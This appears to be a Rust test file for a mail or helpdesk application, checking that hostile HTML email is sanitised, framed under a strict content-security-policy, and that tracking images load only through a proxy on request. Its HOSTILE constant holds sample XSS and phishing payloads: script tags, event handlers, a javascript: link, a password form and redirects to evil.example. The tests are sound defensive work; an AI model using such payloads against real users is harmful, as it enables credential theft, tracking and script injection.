//! Attacks 6 and 7: HTML mail stands in a frame that runs nothing and fetches nothing nobody asked for.

use crate::stage::{Desk, mail};
use axum::http::StatusCode;
use testkit::both_databases;

const HOSTILE: &str = "<p onclick=\"steal()\">Hello</p><script>steal()</script><img src=\"https://track.example/pixel.gif\" onerror=\"steal()\">\
    <a href=\"javascript:steal()\">free</a><form action=\"https://evil.example\"><input name=password></form><base href=\"https://evil.example/\">\
    <meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\"><blockquote type=\"cite\">On Tuesday Ana wrote: hi</blockquote>";

async fn hostile(desk: &Desk) -> (i64, i64) {
    let mut letter = mail(desk.support, "Offer", "Hello");
    letter.html = Some(HOSTILE.into());
    desk.receives(letter).await
}

#[both_databases]
async fn attack_06_nothing_in_a_mail_runs_and_its_policy_would_stop_it(desk: Desk) {
    let (number, message) = hostile(&desk).await;

    let document = desk.gets("ana", &format!("/messages/{message}/html")).await;
    let page = desk.gets("ana", &format!("/conversations/{number}")).await;

    let policy = document.header("content-security-policy");
    assert!(
        policy.starts_with("default-src 'none'") && policy.contains("sandbox allow-same-origin") && !policy.contains("script"),
        "{policy}"
    );
    assert!(policy.contains("frame-ancestors 'self'") && policy.contains("form-action 'none'"), "{policy}");
    assert!(document.text.contains("Hello"));
    for danger in ["steal", "<script", "javascript:", "<form", "<input", "http-equiv=\"refresh\"", "evil.example"] {
        assert!(!document.text.contains(danger), "{danger} is left in {}", document.text);
        assert!(!page.text.contains("steal()"), "the page itself carries the mail");
    }
    assert!(page.text.contains("sandbox=\"allow-same-origin allow-popups allow-popups-to-escape-sandbox\""));
}

#[both_databases]
async fn attack_07_pictures_from_elsewhere_wait_until_asked_for(desk: Desk) {
    let (number, message) = hostile(&desk).await;

    let page = desk.gets("ana", &format!("/conversations/{number}")).await;
    let without = desk.gets("ana", &format!("/messages/{message}/html")).await;
    let with = desk.gets("ana", &format!("/messages/{message}/html?images=1")).await;

    assert!(page.text.contains("One picture was not loaded"), "the reader is told");
    assert!(!without.text.contains("track.example"), "{}", without.text);
    assert!(with.text.contains(&format!("/mail-images/{message}?url=https%3A%2F%2Ftrack.example")), "{}", with.text);
    assert!(!with.text.contains("src=\"https://track.example"), "never straight from the tracker");
    assert_eq!(without.header("referrer-policy"), "no-referrer");
}

#[both_databases]
async fn a_mail_without_html_has_no_document(desk: Desk) {
    let (_, message) = desk.receives(mail(desk.support, "Plain", "Just text")).await;

    let document = desk.gets("ana", &format!("/messages/{message}/html")).await;

    assert_eq!(document.status, StatusCode::NOT_FOUND);
}
